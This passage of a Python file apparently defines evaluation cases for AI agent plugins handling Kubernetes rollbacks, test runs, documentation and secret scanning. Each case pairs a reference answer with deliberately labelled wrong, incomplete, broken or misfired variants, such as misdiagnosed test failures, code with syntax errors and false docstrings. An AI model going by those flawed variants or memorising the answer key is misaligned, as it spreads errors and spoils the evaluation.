                          memory: {mem}
            ---
            apiVersion: v1
            kind: Service
            metadata:
              name: {app}
            spec:
              selector:
                app: {app}
              ports:
                - port: 80
                  targetPort: {port}
            ```
            """,
            "`resources` is mis-indented under the container; the YAML does not parse",
        ),
        wrong=var(
            """
            ```yaml
            apiVersion: apps/v1
            kind: Deployment
            metadata:
              name: {app}
            spec:
              replicas: 3
              selector:
                matchLabels:
                  app: {app}
              template:
                metadata:
                  labels:
                    app: {app}
                spec:
                  containers:
                    - name: {app}
                      image: {image}
                      ports:
                        - containerPort: {port}
                      resources:
                        limits:
                          cpu: {cpu}
                          memory: {mem}
            ---
            apiVersion: v1
            kind: Service
            metadata:
              name: {app}
            spec:
              selector:
                app.kubernetes.io/name: {app}
              ports:
                - port: 80
                  targetPort: {port}
            ```

            The Service selects the pods through the standard `app.kubernetes.io/name` label.
            """,
            "the Service selector doesn't match the pod label `app`, so it gets no endpoints",
        ),
    ),
    _t(
        "k8s-helper:rollout-agent",
        "complex",
        (
            "Roll back {deploy} in {ns} to the previous version, the new one is throwing 500s.",
            "{deploy} release from this morning is broken (5xx spike). Please revert it.",
        ),
        (
            {
                "deploy": "checkout-api",
                "ns": "shop-prod",
                "bad": "v2.14.0",
                "good": "v2.13.3",
                "rev_bad": "31",
                "rev_good": "30",
            },
            {
                "deploy": "profile-service",
                "ns": "accounts",
                "bad": "v5.2.0",
                "good": "v5.1.7",
                "rev_bad": "12",
                "rev_good": "11",
            },
            {
                "deploy": "search-gateway",
                "ns": "search",
                "bad": "v1.40.0",
                "good": "v1.39.2",
                "rev_bad": "58",
                "rev_good": "57",
            },
        ),
        (
            cap(
                "@invoke",
                "subagent_type: {component}\nprompt: Roll back deployment {deploy} in {ns} to "
                "the previous revision and verify",
                "Agent finished after 3 tool uses",
            ),
            cap(
                "Bash",
                "kubectl rollout history deployment/{deploy} -n {ns}",
                """
                REVISION  CHANGE-CAUSE
                {rev_good}        deploy {good}
                {rev_bad}        deploy {bad}
                """,
            ),
            cap(
                "Bash",
                "kubectl rollout undo deployment/{deploy} -n {ns} --to-revision={rev_good}",
                "deployment.apps/{deploy} rolled back",
            ),
            cap(
                "Bash",
                "kubectl rollout status deployment/{deploy} -n {ns} --timeout=180s",
                'deployment "{deploy}" successfully rolled out',
            ),
        ),
        """
        Rolled back `{deploy}` in `{ns}` from revision {rev_bad} ({bad}) to revision
        {rev_good} ({good}), and the rollout completed: all replicas are running {good}.

        Next steps: watch the 5xx rate for the next few minutes to confirm it drops, and note
        that the next CI deploy will roll {bad} out again unless you pin or revert it in Git.
        The rollback itself becomes a new revision in `kubectl rollout history`.
        """,
        wrong=var(
            """
            Rolled back `{deploy}` to revision {rev_bad} ({bad}); the rollout completed
            successfully and the 5xx errors should stop.
            """,
            "reports the bad revision as the rollback target; the capture shows {rev_good}",
        ),
        incomplete=var(
            """
            Done, `{deploy}` has been rolled back.
            """,
            "does not say to which version, whether the rollout finished, or that CI will "
            "redeploy the bad version",
        ),
        misfire=Misfire(
            "k8s-helper:debug-pod-skill",
            (
                cap("@invoke", "{component}", "Loaded skill {component}"),
                cap(
                    "Bash",
                    "kubectl logs deployment/{deploy} -n {ns} --since=30m | grep -c ' 500 '",
                    "1288",
                ),
                cap(
                    "Bash",
                    "kubectl logs deployment/{deploy} -n {ns} --since=30m | grep ERROR | tail -3",
                    """
                    ERROR  upstream pricing-service returned 422: unknown field 'currency_code'
                    ERROR  upstream pricing-service returned 422: unknown field 'currency_code'
                    ERROR  upstream pricing-service returned 422: unknown field 'currency_code'
                    """,
                ),
            ),
            """
            The 500s come from calls to `pricing-service`, which rejects a new field,
            `currency_code`, that {bad} started sending (1,288 failed requests in the last 30
            minutes). Either deploy a pricing-service version that accepts the field, or
            remove it from the request in `{deploy}`.
            """,
            True,
            "the debugging skill ran instead of the rollout agent; nothing was rolled back",
        ),
    ),
    _t(
        "k8s-helper:kubectl",
        "simple",
        (
            "Which pods in {ns} are using the most memory right now?",
            "top memory consumers in the {ns} namespace?",
        ),
        (
            {
                "ns": "shop-prod",
                "p1": "checkout-api-7c9d8b6f4-x2k8p",
                "m1": "1843Mi",
                "p2": "catalog-sync-5d7c9-kk2lp",
                "m2": "1210Mi",
                "p3": "cart-6b8f4d9c7-pp9rm",
                "m3": "402Mi",
            },
            {
                "ns": "data",
                "p1": "spark-driver-etl-nightly",
                "m1": "6120Mi",
                "p2": "kafka-connect-0",
                "m2": "2890Mi",
                "p3": "schema-registry-1",
                "m3": "611Mi",
            },
            {
                "ns": "search",
                "p1": "opensearch-data-2",
                "m1": "7954Mi",
                "p2": "opensearch-data-0",
                "m2": "7801Mi",
                "p3": "search-gateway-6d4f5-7hjlw",
                "m3": "288Mi",
            },
        ),
        (
            cap(
                "mcp__k8s-helper__kubectl",
                "top pods -n {ns} --sort-by=memory",
                """
                NAME        CPU(cores)   MEMORY(bytes)
                {p1}        412m         {m1}
                {p2}        96m          {m2}
                {p3}        31m          {m3}
                """,
            ),
        ),
        """
        Top memory users in `{ns}` right now:

        | pod | memory |
        |---|---|
        | `{p1}` | {m1} |
        | `{p2}` | {m2} |
        | `{p3}` | {m3} |

        These are current working-set values from metrics-server, not peaks. To see how close
        `{p1}` is to its limit, compare with `kubectl get pod {p1} -n {ns} -o
        jsonpath='{.spec.containers[*].resources.limits.memory}'`.
        """,
        wrong=var(
            """
            `{p1}` uses the most memory at {m1}, which is about 1.8 GB for the first entry.
            The others are far below: `{p2}` at {m2} and `{p3}` at {m3}. `kubectl top` shows
            peak memory since the pod started, so these are worst-case values.
            """,
            "kubectl top shows current usage, not peak since start",
        ),
    ),
    # ================================================================== test-runner
    _t(
        "test-runner:run-tests",
        "simple",
        (
            "Run the tests for {module} and tell me what's failing.",
            "/test {module}",
            "tests in {module} are red on my branch, can you run them and fix it?",
        ),
        (
            {
                "module": "billing",
                "test_path": "tests/billing",
                "output": (
                    "FAILED tests/billing/test_pricing.py::test_discount_rounding - "
                    "AssertionError: assert Decimal('10.99') == Decimal('11.00')\n"
                    "1 failed, 46 passed in 2.31s"
                ),
                "diagnosis": "`test_discount_rounding` expects 15% off 12.94 (10.999) to "
                "round to 11.00, but `apply_discount` quantizes with `rounding=ROUND_DOWN`, "
                "so the value is truncated to 10.99.",
                "fix": """```python
from decimal import ROUND_HALF_UP, Decimal


def apply_discount(price: Decimal, percent: int) -> Decimal:
    discounted = price * (Decimal(100 - percent) / Decimal(100))
    return discounted.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
```""",
                "fix_broken": """```python
from decimal import ROUND_HALF_UP, Decimal


def apply_discount(price: Decimal, percent: int) -> Decimal
    discounted = price * (Decimal(100 - percent) / Decimal(100))
    return discounted.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
```""",
                "wrong_diag": "The test is wrong: Decimal arithmetic is exact, so 10.99 is the "
                "correct result and the expectation should be updated to `Decimal('10.99')`.",
            },
            {
                "module": "api/users",
                "test_path": "tests/api/test_users.py",
                "output": (
                    "FAILED tests/api/test_users.py::test_create_user_duplicate_email - "
                    "assert 500 == 409\n"
                    "E   sqlalchemy.exc.IntegrityError: (psycopg.errors.UniqueViolation) "
                    'duplicate key value violates unique constraint "users_email_key"\n'
                    "1 failed, 23 passed in 4.02s"
                ),
                "diagnosis": "`test_create_user_duplicate_email` expects a 409 for a "
                "duplicate email, but the endpoint lets the `IntegrityError` from the unique "
                "constraint propagate, which becomes a 500.",
                "fix": """```python
from sqlalchemy.exc import IntegrityError


@router.post("/users", status_code=201)
def create_user(body: UserCreate, db: Session = Depends(get_db)) -> UserOut:
    user = User(email=body.email.lower(), name=body.name)
    db.add(user)
    try:
        db.commit()
    except IntegrityError:
        db.rollback()
        raise HTTPException(409, "a user with this email already exists") from None
    return UserOut.model_validate(user)
```""",
                "fix_broken": """```python
@router.post("/users", status_code=201)
def create_user(body: UserCreate, db: Session = Depends(get_db)) -> UserOut:
    user = User(email=body.email.lower(), name=body.name)
    db.add(user)
    try:
        db.commit()
    except IntegrityError:
        db.rollback()
        raise HTTPException(409, "a user with this email already exists") from None
     return UserOut.model_validate(user)
```""",
                "wrong_diag": "The failure is a flaky test database: the previous test didn't "
                "clean up its user. Add `@pytest.mark.flaky(reruns=2)` to the test.",
            },
            {
                "module": "dates",
                "test_path": "tests/test_dates.py",
                "output": (
                    "FAILED tests/test_dates.py::test_parse_iso_utc - ValueError: Invalid "
                    "isoformat string: '2026-03-14T10:00:00Z'\n"
                    "1 failed, 12 passed in 0.18s\n"
                    "platform linux -- Python 3.10.14, pytest-8.3.3"
                ),
                "diagnosis": "`test_parse_iso_utc` fails because `datetime.fromisoformat` "
                "only accepts the `Z` suffix from Python 3.11 on, and this environment runs "
                "3.10.14.",
                "fix": """```python
from datetime import datetime


def parse_iso(value: str) -> datetime:
    if value.endswith("Z"):
        value = value[:-1] + "+00:00"
    return datetime.fromisoformat(value)
```""",
                "fix_broken": """```python
from datetime import datetime


def parse_iso(value: str) -> datetime:
    if value.endswith("Z"):
        value = value[:-1] + "+00:00"
    return datetime.fromisoformat(value
```""",
                "wrong_diag": "`fromisoformat` never accepts a `Z` suffix in any Python "
                "version; switch the whole module to `dateutil.parser.isoparse`.",
            },
        ),
        (
            cap("@invoke", "/{component} {test_path}", "Running pytest {test_path} -q"),
            cap("Bash", "pytest {test_path} -q", "{output}"),
        ),
        """
        {diagnosis}

        Fix:

        {fix}

        With this change `pytest {test_path} -q` should pass; I haven't changed any tests.
        """,
        incomplete=var(
            """
            {diagnosis}
            """,
            "explains the failure but doesn't propose a fix although the user asked",
        ),
        broken=var(
            """
            {diagnosis}

            {fix_broken}
            """,
            "the proposed fix has a syntax error",
        ),
        wrong=var(
            """
            {wrong_diag}
            """,
            "misdiagnoses the failure shown in the pytest output",
        ),
        misfire=Misfire(
            "test-runner:write-tests-skill",
            (
                cap("@invoke", "{component}", "Loaded skill {component}"),
                cap("Bash", "ls {test_path}", "__init__.py\nconftest.py"),
            ),
            """
            I added three new tests for {module} covering the empty input, the typical case and
            an invalid value. Run them with `pytest {test_path}`.
            """,
            False,
            "the test-writing skill ran instead of running the existing tests",
        ),
    ),
    _t(
        "test-runner:flaky-triage",
        "complex",
        (
            "`{test}` fails randomly on CI, maybe 1 in 10 runs. Can you find out why?",
            "{test} is flaky. Please triage.",
        ),
        (
            {
                "test": "tests/test_tags.py::test_export_tags",
                "rerun": "3 failed, 27 passed in 4.12s",
                "fail": (
                    "E   AssertionError: assert ['billing', 'urgent', 'vip'] == "
                    "['urgent', 'billing', 'vip']"
                ),
                "cause": "`export_tags` builds its result from a `set`, and the iteration "
                "order of a set of strings depends on hash randomization (`PYTHONHASHSEED`), "
                "which differs between runs. The test compares against a fixed order.",
                "fix": """```python
def export_tags(ticket: Ticket) -> list[str]:
    return sorted({tag.name for tag in ticket.tags})
```""",
                "fix_broken": """```python
def export_tags(ticket: Ticket) -> list[str]:
    return sorted({tag.name for tag in ticket.tags)
```""",
            },
            {
                "test": "tests/test_reports.py::test_daily_report_includes_today",
                "rerun": "0 failed, 30 passed in 6.40s",
                "fail": (
                    "E   AssertionError: assert date(2026, 10, 3) in [date(2026, 10, 2)]\n"
                    "(CI run started 23:59:58 UTC)"
                ),
                "cause": "The test calls `date.today()` twice, once to build the report and "
                "once in the assertion. When a run straddles midnight UTC (CI logs show the "
                "failing run started at 23:59:58) the two calls return different dates. It "
                "passes 30/30 locally because the window is tiny.",
                "fix": """```python
from datetime import date


def test_daily_report_includes_today(freezer):
    freezer.move_to("2026-10-02 23:59:59")
    report = build_daily_report()
    assert date(2026, 10, 2) in report.days
```""",
                "fix_broken": """```python
def test_daily_report_includes_today(freezer):
    freezer.move_to("2026-10-02 23:59:59")
    report = build_daily_report()
    assert date(2026, 10, 2) in report.days:
```""",
            },
            {
                "test": "tests/test_pricing_cache.py::test_price_after_update",
                "rerun": "4 failed, 26 passed in 3.77s (random order, -p randomly)",
                "fail": "E   assert Decimal('19.99') == Decimal('24.99')",
                "cause": "`get_price` memoizes results in a module-level dict, and "
                "`test_price_lookup` populates it. When the random order runs that test first, "
                "`test_price_after_update` reads the cached old price. It's an ordering "
                "dependency through shared state, not timing.",
                "fix": """```python
import pytest

from shop import pricing


@pytest.fixture(autouse=True)
def clear_price_cache():
    pricing.get_price.cache_clear()
    yield
    pricing.get_price.cache_clear()
```""",
                "fix_broken": """```python
@pytest.fixture(autouse=True)
def clear_price_cache()
    pricing.get_price.cache_clear()
    yield
```""",
            },
        ),
        (
            cap("@invoke", "{component}", "Loaded skill {component}"),
            cap("Bash", "pytest {test} -p randomly --count=30 -q", "{rerun}"),
            cap("Bash", "grep -n 'AssertionError\\|assert' .ci/logs/last-failure.txt", "{fail}"),
        ),
        """
        {cause}

        Fix:

        {fix}

        After the change, 30 repeated runs in random order should all pass; consider running
        the suite with `-p randomly` in CI so this class of problem shows up earlier.
        """,
        incomplete=var(
            """
            I reran it 30 times ({rerun}). {cause}
            """,
            "identifies the cause but doesn't fix it",
        ),
        broken=var(
            """
            {cause}

            {fix_broken}
            """,
            "the fix doesn't parse",
        ),
        wrong=var(
            """
            The test is timing out on slow CI runners. Increase the pytest timeout for it with
            `@pytest.mark.timeout(60)` and it should stabilise.
            """,
            "the failure is an assertion error, not a timeout",
        ),
    ),
    _t(
        "test-runner:coverage-hook",
        "simple",
        (
            "Refactor `{func}` in `{file}` to use early returns, it's nested four levels deep.",
            "can you flatten the nested ifs in {func} ({file})?",
        ),
        (
            {
                "func": "shipping_cost",
                "file": "src/shop/shipping.py",
                "cov": "78",
                "was": "84",
                "lines": "41-46",
            },
            {
                "func": "resolve_discount",
                "file": "src/shop/discounts.py",
                "cov": "69",
                "was": "73",
                "lines": "88-90",
            },
            {
                "func": "can_refund",
                "file": "src/billing/refunds.py",
                "cov": "91",
                "was": "91",
                "lines": "none",
            },
        ),
        (
            cap("Edit", "{file}: rewrite {func}", "Applied 1 edit to {file}"),
            cap(
                "@invoke",
                "PostToolUse(Edit) -> {component}",
                "coverage {file}: {cov}% (was {was}%), uncovered lines: {lines}",
            ),
        ),
        """
        I rewrote `{func}` with guard clauses: each precondition returns early, and the main
        calculation is no longer nested. Behaviour is unchanged.

        The coverage hook reports {file} at {cov}% (was {was}%); uncovered lines: {lines}. If
        that list isn't empty, those are the early-return branches that no test exercises yet,
        and each one deserves a small test so the refactor is pinned down.
        """,
        incomplete=var(
            """
            Done, `{func}` now uses early returns.
            """,
            "ignores the coverage report from the hook",
        ),
    ),
    _t(
        "test-runner:write-tests-skill",
        "edge_case",
        (
            "Write unit tests for `{func}` in `{file}`.",
            "we have no tests for {func}, can you add some?",
            "test {func} please",
        ),
        (
            {
                "func": "slugify",
                "file": "src/blog/text.py",
                "source": (
                    "def slugify(text: str) -> str:\n"
                    '    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore")'
                    ".decode()\n"
                    '    text = re.sub(r"[^a-zA-Z0-9]+", "-", text).strip("-")\n'
                    "    return text.lower()"
                ),
                "tests": """```python
import pytest

from blog.text import slugify


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Hello World", "hello-world"),
        ("  spaces  around  ", "spaces-around"),
        ("Crème brûlée", "creme-brulee"),
        ("C++ & Rust!", "c-rust"),
        ("---", ""),
        ("", ""),
    ],
)
def test_slugify(text, expected):
    assert slugify(text) == expected


def test_slugify_is_idempotent():
    assert slugify(slugify("Ünïcode Title 2026")) == slugify("Ünïcode Title 2026")
```""",
                "tests_happy": """```python
from blog.text import slugify


def test_slugify():
    assert slugify("Hello World") == "hello-world"
```""",
                "tests_broken": """```python
import pytest

from blog.text import slugify


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Hello World", "hello-world"),
        ("Crème brûlée", "creme-brulee"),
        ("", ""),
    ]
def test_slugify(text, expected):
    assert slugify(text) == expected
```""",
                "run": "8 passed in 0.04s",
            },
            {
                "func": "parse_duration",
                "file": "src/jobs/schedule.py",
                "source": (
                    "def parse_duration(value: str) -> timedelta:\n"
                    '    match = re.fullmatch(r"(?:(\\d+)h)?(?:(\\d+)m)?(?:(\\d+)s)?", value)\n'
                    "    if not value or match is None:\n"
                    '        raise ValueError(f"invalid duration: {value!r}")\n'
                    "    h, m, s = (int(g) if g else 0 for g in match.groups())\n"
                    "    return timedelta(hours=h, minutes=m, seconds=s)"
                ),
                "tests": """```python
from datetime import timedelta

import pytest

from jobs.schedule import parse_duration


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("1h", timedelta(hours=1)),
        ("1h30m", timedelta(hours=1, minutes=30)),
        ("45s", timedelta(seconds=45)),
        ("2h0m5s", timedelta(hours=2, seconds=5)),
        ("90m", timedelta(minutes=90)),
    ],
)
def test_parse_duration(value, expected):
    assert parse_duration(value) == expected


@pytest.mark.parametrize("value", ["", "1d", "h", "1.5h", "30m1h"])
def test_parse_duration_rejects_invalid(value):
    with pytest.raises(ValueError, match="invalid duration"):
        parse_duration(value)
```""",
                "tests_happy": """```python
from datetime import timedelta

from jobs.schedule import parse_duration


def test_parse_duration():
    assert parse_duration("1h30m") == timedelta(hours=1, minutes=30)
```""",
                "tests_broken": """```python
from datetime import timedelta

import pytest

from jobs.schedule import parse_duration


def test_parse_duration_rejects_invalid():
    with pytest.raises(ValueError, match="invalid duration")
        parse_duration("1d")
```""",
                "run": "10 passed in 0.05s",
            },
            {
                "func": "chunked",
                "file": "src/etl/batching.py",
                "source": (
                    "def chunked(items: Iterable[T], size: int) -> Iterator[list[T]]:\n"
                    "    if size < 1:\n"
                    '        raise ValueError("size must be >= 1")\n'
                    "    it = iter(items)\n"
                    "    while batch := list(islice(it, size)):\n"
                    "        yield batch"
                ),
                "tests": """```python
import pytest

from etl.batching import chunked


def test_even_split():
    assert list(chunked(range(6), 2)) == [[0, 1], [2, 3], [4, 5]]


def test_last_chunk_is_shorter():
    assert list(chunked("abcde", 2)) == [["a", "b"], ["c", "d"], ["e"]]


def test_empty_input_yields_nothing():
    assert list(chunked([], 3)) == []


def test_works_with_generators():
    assert list(chunked((i for i in range(3)), 5)) == [[0, 1, 2]]


@pytest.mark.parametrize("size", [0, -1])
def test_rejects_non_positive_size(size):
    with pytest.raises(ValueError):
        list(chunked([1, 2], size))
```""",
                "tests_happy": """```python
from etl.batching import chunked


def test_chunked():
    assert list(chunked(range(6), 2)) == [[0, 1], [2, 3], [4, 5]]
```""",
                "tests_broken": """```python
from etl.batching import chunked


def test_last_chunk_is_shorter():
    assert list(chunked("abcde", 2)) == [["a", "b"], ["c", "d"], ["e"]


def test_empty_input_yields_nothing():
    assert list(chunked([], 3)) == []
```""",
                "run": "6 passed in 0.03s",
            },
        ),
        (
            cap("@invoke", "{component}", "Loaded skill {component}"),
            cap("Read", "{file}", "{source}"),
            cap("Bash", "pytest tests/ -q -k {func}", "{run}"),
        ),
        """
        I added tests for `{func}` covering the normal cases, edge cases and invalid input:

        {tests}

        They pass locally ({run}). They import from the package rather than the file path,
        matching the existing tests, so they run under the same `pytest` configuration.
        """,
        incomplete=var(
            """
            {tests_happy}
            """,
            "only the happy path; no edge cases or invalid input",
        ),
        broken=var(
            """
            Here are the tests:

            {tests_broken}
            """,
            "the test file has a syntax error",
        ),
        misfire=Misfire(
            "test-runner:run-tests",
            (
                cap("@invoke", "/{component} tests/", "Running pytest tests/ -q"),
                cap("Bash", "pytest tests/ -q", "112 passed, 3 skipped in 9.84s"),
            ),
            """
            All tests pass: 112 passed, 3 skipped. Nothing is failing for `{func}`.
            """,
            True,
            "the test runner ran the existing suite; no tests for the function were written",
        ),
    ),
    # ================================================================== docs-writer
    _t(
        "docs-writer:docstring-skill",
        "simple",
        (
            "Add docstrings to the public functions in `{file}`.",
            "document {func} in {file}, google style docstrings please",
        ),
        (
            {
                "file": "src/shop/money.py",
                "func": "split_amount",
                "doc_note": "documents how the remainder is distributed, which is the part "
                "callers are most likely to get wrong.",
                "source": (
                    "def split_amount(total_minor: int, parts: int) -> list[int]:\n"
                    "    if parts < 1:\n"
                    '        raise ValueError("parts must be >= 1")\n'
                    "    base, rest = divmod(total_minor, parts)\n"
                    "    return [base + 1 if i < rest else base for i in range(parts)]"
                ),
                "documented": '''```python
def split_amount(total_minor: int, parts: int) -> list[int]:
    """Split an amount into ``parts`` shares that differ by at most one minor unit.

    The remainder is distributed one unit at a time to the first shares, so the
    shares always add up to ``total_minor``.

    Args:
        total_minor: Amount in minor units (e.g. cents).
        parts: Number of shares; must be at least 1.

    Returns:
        A list of ``parts`` integers, largest first, summing to ``total_minor``.

    Raises:
        ValueError: If ``parts`` is less than 1.
    """
    if parts < 1:
        raise ValueError("parts must be >= 1")
    base, rest = divmod(total_minor, parts)
    return [base + 1 if i < rest else base for i in range(parts)]
```''',
                "documented_broken": '''```python
def split_amount(total_minor: int, parts: int) -> list[int]:
    """Split an amount into ``parts`` shares that differ by at most one minor unit.

    Args:
        total_minor: Amount in minor units (e.g. cents).
        parts: Number of shares; must be at least 1.
    ""
    if parts < 1:
        raise ValueError("parts must be >= 1")
    base, rest = divmod(total_minor, parts)
    return [base + 1 if i < rest else base for i in range(parts)]
```''',
                "wrong_doc": '''```python
def split_amount(total_minor: int, parts: int) -> list[int]:
    """Split an amount into equal shares, rounding each share to the nearest unit.

    Returns an empty list if ``parts`` is 0 or negative. The shares may not add up
    exactly to ``total_minor`` because of rounding.
    """
    if parts < 1:
        raise ValueError("parts must be >= 1")
    base, rest = divmod(total_minor, parts)
    return [base + 1 if i < rest else base for i in range(parts)]
```''',
            },
            {
                "file": "src/etl/retry.py",
                "func": "backoff_delays",
                "doc_note": "says explicitly that no jitter is applied, so callers don't "
                "assume it is.",
                "source": (
                    "def backoff_delays(base: float, factor: float, attempts: int) -> "
                    "list[float]:\n"
                    "    return [base * factor**i for i in range(attempts)]"
                ),
                "documented": '''```python
def backoff_delays(base: float, factor: float, attempts: int) -> list[float]:
    """Return the exponential backoff delays for a number of attempts.

    Args:
        base: Delay before the first retry, in seconds.
        factor: Multiplier applied to each subsequent delay.
        attempts: How many delays to produce; 0 gives an empty list.

    Returns:
        ``[base, base * factor, base * factor**2, ...]`` with ``attempts`` items.
        No jitter is applied; add it at the call site if needed.
    """
    return [base * factor**i for i in range(attempts)]
```''',
                "documented_broken": '''```python
def backoff_delays(base: float, factor: float, attempts: int) -> list[float]:
    """Return the exponential backoff delays for a number of attempts.

    Args:
        base: Delay before the first retry, in seconds.
        factor: Multiplier applied to each subsequent delay.
    """
    return [base * factor**i for i in range(attempts]
```''',
                "wrong_doc": '''```python
def backoff_delays(base: float, factor: float, attempts: int) -> list[float]:
    """Return backoff delays with full jitter applied, capped at 60 seconds."""
    return [base * factor**i for i in range(attempts)]
```''',
            },
        ),
        (
            cap("@invoke", "{component}", "Loaded skill {component}"),
            cap("Read", "{file}", "{source}"),
        ),
        """
        {documented}

        The docstring follows the Google style used elsewhere in the repo and {doc_note}
        """,
        broken=var(
            """
            {documented_broken}
            """,
            "unterminated docstring or bracket; the module no longer parses",
        ),
        wrong=var(
            """
            {wrong_doc}
            """,
            "the docstring describes behaviour the code doesn't have",
        ),
    ),
    _t(
        "docs-writer:readme-agent",
        "complex",
        (
            "Write a README for this repo.",
            "our README is empty, can you write a proper one?",
        ),
        (
            {
                "pkg": "ledgerline",
                "cli": "ledgerline",
                "desc": "Reconcile bank statements against ledger exports",
                "py": "3.11",
            },
            {
                "pkg": "tilecache",
                "cli": "tilecache",
                "desc": "A caching proxy for map tiles",
                "py": "3.12",
            },
        ),
        (
            cap(
                "@invoke",
                "subagent_type: {component}\nprompt: Write README.md for the repository",
                "Agent finished after 3 tool uses",
            ),
            cap("Bash", "ls", "LICENSE\npyproject.toml\nsrc\ntests\nMakefile"),
            cap(
                "Read",
                "pyproject.toml",
                """
                [project]
                name = "{pkg}"
                description = "{desc}"
                requires-python = ">={py}"

                [project.scripts]
                {cli} = "{pkg}.cli:main"
                """,
            ),
        ),
        """
        ```markdown
        # {pkg}

        {desc}.

        ## Installation

        Requires Python {py}+.

            pip install {pkg}

        For development: `pip install -e ".[dev]"` and `make test`.

        ## Usage

            {cli} --help

        ## Development

        - Tests live in `tests/` and run with `pytest` (`make test`).
        - Source is under `src/{pkg}/`.

        ## License

        See [LICENSE](LICENSE).
        ```

        I kept the usage section to `--help` because I couldn't see the CLI's subcommands from
        `pyproject.toml`; fill in one real example once you've picked one.
        """,
        incomplete=var(
            """
            ```markdown
            # {pkg}

            {desc}.
            ```
            """,
            "no installation, usage or development instructions",
        ),
        wrong=var(
            """
            ```markdown
            # {pkg}

            {desc}.

            ## Installation

                pip install {pkg}

            Works with Python 3.8 and newer.

            ## Usage

                {cli} sync --all --since yesterday
            ```
            """,
            "states Python 3.8+ although pyproject requires {py}; invents a `sync` command",
        ),
    ),
    _t(
        "docs-writer:changelog-command",
        "simple",
        (
            "Generate the changelog entry for the release since {tag}.",
            "/changelog {tag}..HEAD",
        ),
        (
            {"tag": "v1.3.0", "next": "1.4.0"},
            {"tag": "v2.0.1", "next": "2.1.0"},
        ),
        (
            cap("@invoke", "/{component} {tag}..HEAD", "Collecting commits since {tag}"),
            cap(
                "Bash",
                "git log --oneline {tag}..HEAD",
                """
                a41c9e2 feat(export): add CSV export for invoices
                7be0f13 fix(auth): refresh token no longer expires early on clock skew
                19d4c55 feat(api)!: remove deprecated /v1/reports endpoint
                c03a7d8 chore(deps): bump httpx to 0.27.2
                5f2e6b1 docs: clarify rate limits
                """,
            ),
        ),
        """
        ```markdown
        ## [{next}]

        ### Breaking changes
        - The deprecated `/v1/reports` endpoint has been removed. (19d4c55)

        ### Added
        - CSV export for invoices. (a41c9e2)

        ### Fixed
        - Refresh tokens no longer expire early when client and server clocks are skewed.
          (7be0f13)

        ### Other
        - Bumped httpx to 0.27.2; clarified the rate-limit docs.
        ```

        Because of the removed endpoint this should arguably be a major release under semver;
        I used {next} as you planned, but flagging it.
        """,
        incomplete=var(
            """
            ```markdown
            ## [{next}]

            - Added CSV export for invoices.
            - Fixed early refresh-token expiry.
            ```
            """,
            "omits the breaking removal of /v1/reports",
        ),
        wrong=var(
            """
            ```markdown
            ## [{next}]

            ### Added
            - CSV export for invoices.
            - Webhook retries with exponential backoff.

            ### Fixed
            - Refresh tokens no longer expire early on clock skew.
            ```
            """,
            "lists a webhook change that is not in the git log and drops the breaking change",
        ),
    ),
    _t(
        "docs-writer:adr-skill",
        "edge_case",
        (
            "Write an ADR for moving from {a} to {b}.",
            "we decided to switch from {a} to {b}, can you document the decision?",
        ),
        (
            {
                "a": "Celery",
                "b": "Dramatiq",
                "why": "Celery's retry semantics and prefork "
                "worker memory use caused repeated incidents; Dramatiq has simpler retries and "
                "a smaller footprint",
                "cost": "rewriting 40 task definitions and losing "
                "Celery's canvas primitives (chords, groups)",
            },
            {
                "a": "polling the partner API",
                "b": "signed webhooks",
                "why": "polling every minute costs ~1.4M requests a day and still delays updates",
                "cost": "running a "
                "public endpoint, verifying signatures and building a reconciliation job for "
                "missed deliveries",
            },
        ),
        (
            cap("@invoke", "{component}", "Loaded skill {component}"),
            cap("Bash", "ls docs/adr", "0001-record-decisions.md\n0002-use-postgres.md"),
        ),
        """
        ```markdown
        # 0003. Move from {a} to {b}

        Status: Accepted

        ## Context
        {why}.

        ## Decision
        We will use {b} instead of {a} for new work and migrate existing usage.

        ## Consequences
        - Positive: fewer incidents from the failure modes above; simpler operations.
        - Negative: {cost}.
        - We will revisit this decision if the migration stalls for more than two sprints.
        ```

        Saved as `docs/adr/0003-move-from-{a}-to-{b}.md`, numbered after the two existing
        records. Rename the file with a slug that fits your convention.
        """,
        incomplete=var(
            """
            ```markdown
            # 0003. Move from {a} to {b}

            ## Decision
            We will use {b}.
            ```
            """,
            "no context and no consequences sections",
        ),
        misfire=Misfire(
            "docs-writer:readme-agent",
            (
                cap(
                    "@invoke",
                    "subagent_type: {component}\nprompt: Document the move from {a} to {b}",
                    "Agent finished after 1 tool use",
                ),
                cap("Read", "README.md", "# Workers\n\nBackground jobs for the platform."),
            ),
            """
            I added a "Background jobs" section to `README.md` explaining that the project now
            uses {b} and how to run it locally.
            """,
            True,
            "the README agent edited the README instead of writing an ADR",
        ),
    ),
    # ================================================================== security-scan
    _t(
        "security-scan:secrets-hook",
        "simple",
        (
            'Commit these changes with the message "{msg}".',
            "commit everything: {msg}",
        ),
        (
            {
                "msg": "add S3 export for reports",
                "file": "config/settings.py",
                "line": "14",
                "kind": "AWS access key",
                "masked": "AKIA****************",
            },
            {
                "msg": "wire up Slack alerts",
                "file": "alerts/slack.py",
                "line": "6",
                "kind": "Slack bot token",
                "masked": "xoxb-****",
            },
            {
                "msg": "stripe checkout",
                "file": ".env.production",
                "line": "3",
                "kind": "Stripe secret key",
                "masked": "sk_live_****",
            },
        ),
        (
            cap("Bash", "git add -A", ""),
            cap(
                "@invoke",
                'PreToolUse(Bash: git commit -m "{msg}") -> {component}',
                "BLOCKED: possible {kind} in {file}:{line} ({masked})",
            ),
        ),
        """
        I didn't commit: the secrets hook blocked it because `{file}` line {line} contains
        what looks like a {kind}.

        1. Move the value out of the code and read it at runtime, e.g.
           `os.environ["..."]` from your secrets manager or CI secrets.
        2. Unstage the file (`git restore --staged {file}`), remove the value, and commit
           again.
        3. If this key was ever pushed or shared, rotate it; removing it from the next commit
           doesn't make an exposed key safe.

        Tell me once the value is moved and I'll rerun the commit.
        """,
        incomplete=var(
            """
            The commit was blocked by the secrets hook ({kind} in `{file}`).
            """,
            "no guidance on how to remove the secret or whether to rotate it",
        ),
        wrong=var(
            """
            The secrets hook blocked the commit because of a {kind} in `{file}`. Add `{file}`
            to `.gitignore` and commit again; that removes it from the repository.
            """,
            "adding a tracked file to .gitignore does not untrack or remove it",
        ),
    ),
    _t(
        "security-scan:dep-audit",
        "simple",
        (
